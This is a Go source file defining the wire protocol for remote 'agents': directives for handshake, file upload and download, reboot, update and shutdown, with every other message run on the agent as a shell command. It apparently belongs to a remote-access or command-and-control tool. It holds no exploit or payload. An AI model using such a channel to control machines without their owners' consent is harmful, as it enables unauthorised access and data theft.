// ABOUTME: Control directives understood by agents, and helpers to build them.
// ABOUTME: Everything not listed here is forwarded to the agent as a shell command.

package wire

import (
	"strconv"
	"strings"
)

// Directive names.
const (
	DirectiveHandshake      = "handshake"
	DirectiveSetIP          = "set-ip"
	DirectiveSetPort        = "set-port"
	DirectiveGetCwd         = "getcwd"
	DirectiveDisconnect     = "disconnect"
	DirectiveUploadFilepath = "upload_filepath"
	DirectiveUploadData     = "upload_data"
	DirectiveGet            = "get"
	DirectiveServerShutdown = "server_shutdown?"
	DirectiveReboot         = "reboot"
	DirectiveUpdate         = "update"
)

// Replies with a fixed meaning.
const (
	// HandshakeAccepted is the only reply that accepts a handshake.
	HandshakeAccepted = "True"
	// ShutdownConfirmed is the agent's answer to server_shutdown? when it
	// will stay down instead of reconnecting.
	ShutdownConfirmed = "Y"
)

// Directive joins a directive name and its arguments with single spaces.
func Directive(name string, args ...string) string {
	if len(args) == 0 {
		return name
	}
	return name + " " + strings.Join(args, " ")
}

// Handshake builds the challenge sent to a freshly accepted socket.
func Handshake(sessionID string) string {
	return Directive(DirectiveHandshake, sessionID)
}

// SetIP tells the agent the address the server observed for it.
func SetIP(ip string) string {
	return Directive(DirectiveSetIP, ip)
}

// SetPort tells the agent the source port the server observed for it.
func SetPort(port int) string {
	return Directive(DirectiveSetPort, strconv.Itoa(port))
}

// UploadFilepath announces the remote destination of the next upload.
func UploadFilepath(path string) string {
	return Directive(DirectiveUploadFilepath, path)
}

// Get requests the content of a remote file.
func Get(path string) string {
	return Directive(DirectiveGet, path)
}
